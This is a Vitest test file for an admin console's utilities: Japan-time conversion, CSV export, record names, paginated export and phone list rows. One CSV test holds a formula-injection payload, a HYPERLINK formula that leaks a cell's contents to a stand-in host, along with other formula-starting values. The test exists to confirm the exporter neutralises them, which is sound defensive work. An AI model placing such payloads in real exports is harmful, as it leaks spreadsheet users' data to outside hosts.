import type { DataProvider } from 'react-admin';
import { describe, expect, it } from 'vitest';
import { csvValue, neutralised, toCsv } from './csv';
import { everyRecord } from './export';
import { recordName } from './names';
import { formatJst, fromJstInput, toJstInput } from './time';
import { phoneSummary } from './views';

describe('Japan time in inputs', () => {
  it('shows an instant as the Japan wall clock, whatever its offset', () => {
    expect(toJstInput('2026-12-12T03:00:00Z')).toBe('2026-12-12T12:00');
    expect(toJstInput('2026-12-31T20:30:00+00:00')).toBe('2027-01-01T05:30');
    expect(toJstInput(null)).toBe('');
    expect(toJstInput('soon')).toBe('');
  });

  it('sends what was typed as Japan time', () => {
    expect(fromJstInput('2026-12-12T12:00')).toBe('2026-12-12T12:00:00+09:00');
    expect(fromJstInput('2026-12-12T12:00:30')).toBe('2026-12-12T12:00:30+09:00');
    expect(fromJstInput('')).toBeNull();
    expect(fromJstInput('  ')).toBeNull();
    // Round trip: the input shows again what was typed.
    expect(toJstInput(fromJstInput('2027-01-01T00:15'))).toBe('2027-01-01T00:15');
  });

  it('formats for display in Japan time', () => {
    expect(formatJst('2026-12-12T03:00:00Z', 'ja')).toBe('2026/12/12 12:00');
    expect(formatJst('2026-12-12T03:00:00Z', 'en')).toBe('12 Dec 2026, 12:00');
    expect(formatJst('2026-09-01T15:30:00Z', 'en')).toBe('2 Sept 2026, 00:30');
    expect(formatJst(null, 'ja')).toBe('');
  });
});

describe('CSV export', () => {
  it('writes the shown columns under their labels, quoted where needed, with a BOM', () => {
    const csv = toCsv(
      [
        { id: 1, name_ja: '冬, 2026', note: 'say "hi"', tags: [1, 2], hidden: 'x' },
        { id: 2, name_ja: '改行\nあり', note: null, tags: [], hidden: 'y' },
      ],
      [
        { source: 'id', label: 'ID' },
        { source: 'name_ja', label: '名前（日本語）' },
        { source: 'note', label: 'Note' },
        { source: 'tags', label: 'Tags' },
      ],
    );
    expect(csv.startsWith('\ufeff')).toBe(true);
    expect(csv.slice(1).split('\r\n')).toEqual([
      'ID,名前（日本語）,Note,Tags',
      '1,"冬, 2026","say ""hi""",1 2',
      '2,"改行\nあり",,',
      '',
    ]);
    expect(csv).not.toContain('hidden');
  });

  it('never writes a cell a spreadsheet would run as a formula', () => {
    const attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
    const csv = toCsv(
      [
        { id: 1, name: attack, a: '+1+1', b: '-2+3', c: '@SUM(A1)', d: '\t=1', e: '\r=1', f: '  =1+1' },
        { id: 2, name: '＝1+1', a: '＋1', b: '－1', c: '＠A1', d: '\u3000=1', e: -5, f: 'ok = fine' },
      ],
      ['id', 'name', 'a', 'b', 'c', 'd', 'e', 'f'].map((source) => ({ source, label: source })),
    );
    const rows = csv.slice(1).split('\r\n');
    expect(rows[1]).toBe(
      `1,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")",'+1+1,'-2+3,'@SUM(A1),'\t=1,"'\r=1",'  =1+1`,
    );
    expect(rows[2]).toBe(`2,'＝1+1,'＋1,'－1,'＠A1,'\u3000=1,-5,ok = fine`);
    for (const row of rows.slice(1, 3)) {
      for (const field of row.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) {
        const text = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
        expect(/^[\s\u3000]*[=+@＝＋－＠\t\r-]/.test(text) && text !== '-5', `${text} starts a formula`).toBe(false);
      }
    }
    expect(neutralised('plain')).toBe('plain');
  });

  it('writes objects as JSON and booleans as words', () => {
    expect(csvValue({ a: 1 })).toBe('{"a":1}');
    expect(csvValue(false)).toBe('false');
    expect(csvValue(undefined)).toBe('');
  });
});

describe('record names', () => {
  it('prefer the console language, then any name, handle or key', () => {
    const event = { id: 3, name_ja: '冬', name_en: 'Winter' };
    expect(recordName(event, 'ja')).toBe('冬');
    expect(recordName(event, 'en')).toBe('Winter');
    expect(recordName({ id: 4, name_ja: 'だけ', name_en: '' }, 'en')).toBe('だけ');
    expect(recordName({ id: 5, title: 'Stream' }, 'ja')).toBe('Stream');
    expect(recordName({ id: 6, vmarket_id: 'alice' }, 'en')).toBe('alice');
    expect(recordName({ id: 7 }, 'ja')).toBe('#7');
    expect(recordName(null, 'ja')).toBe('');
  });
});

describe('exporting a whole list', () => {
  it('fetches every matching record, a thousand at a time, with the list filter and order', async () => {
    const calls: unknown[] = [];
    const dataProvider = {
      getList: async (_resource: string, params: { pagination: { page: number; perPage: number }; filter: unknown; sort: unknown }) => {
        calls.push(params);
        const { page, perPage } = params.pagination;
        const start = (page - 1) * perPage;
        const data = Array.from({ length: Math.max(0, Math.min(perPage, 2500 - start)) }, (_, i) => ({ id: start + i + 1 }));
        return { data, total: 2500 };
      },
    } as unknown as DataProvider;
    const all = await everyRecord(dataProvider, 'applications', { event_id: 13 }, { field: 'id', order: 'ASC' });
    expect(all).toHaveLength(2500);
    expect(all.at(-1)?.id).toBe(2500);
    expect(calls).toHaveLength(3);
    expect(calls[2]).toEqual({ filter: { event_id: 13 }, sort: { field: 'id', order: 'ASC' }, pagination: { page: 3, perPage: 1000 } });
  });
});

describe('a phone row of a list', () => {
  it('says the short columns the name does not, at most three', () => {
    const columns = ['name_ja', 'permalink', 'status', 'capacity', 'description', 'note', 'code'].map((source) => ({
      source,
      kind: 'text' as const,
      list: true,
    }));
    const record = {
      id: 3,
      name_ja: '冬のマーケット',
      permalink: '2026Winter',
      status: '',
      capacity: 40,
      description: 'とても長い説明文がここに入ります。'.repeat(4),
      note: 'one',
      code: 'two',
    };
    expect(phoneSummary(record, columns)).toBe('2026Winter · 40 · one');
  });
});
